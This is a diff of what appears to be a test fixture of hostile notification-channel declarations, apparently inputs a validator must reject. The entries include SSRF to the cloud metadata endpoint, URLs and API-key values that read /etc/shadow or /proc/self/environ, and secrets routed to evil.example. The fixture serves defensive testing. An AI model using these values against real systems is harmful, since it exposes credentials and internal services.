@@ -216,7 +216,7 @@ ASKED = {
     "a message to a cloud's secrets": declared(
         "Channel", type="webhook", url="http://169.254.169.254/latest/meta-data/"
     ),
-    "a message to a file": declared("Channel", type="webhook", url="ftp://127.0.0.1/etc/shadow"),
+    "a message by FTP": declared("Channel", type="webhook", url="ftp://127.0.0.1/etc/shadow"),
     "the database's password as a key": declared(
         "Channel", type="opsgenie", url="https://evil.example", api_key="env:DRIFTLINE_X"
     ),
@@ -226,6 +226,7 @@ ASKED = {
     "the environment as a key": declared(
         "Channel", type="opsgenie", url="https://evil.example", api_key="file:/proc/self/environ"
     ),
+    "the environment as a URL": declared("Channel", type="webhook", url="file:/proc/self/environ"),
     "a message to ourselves": declared("Channel", type="webhook", url="http://127.0.0.1:1/x"),
     "a name that climbs": (
         "POST /api/v1/apply",
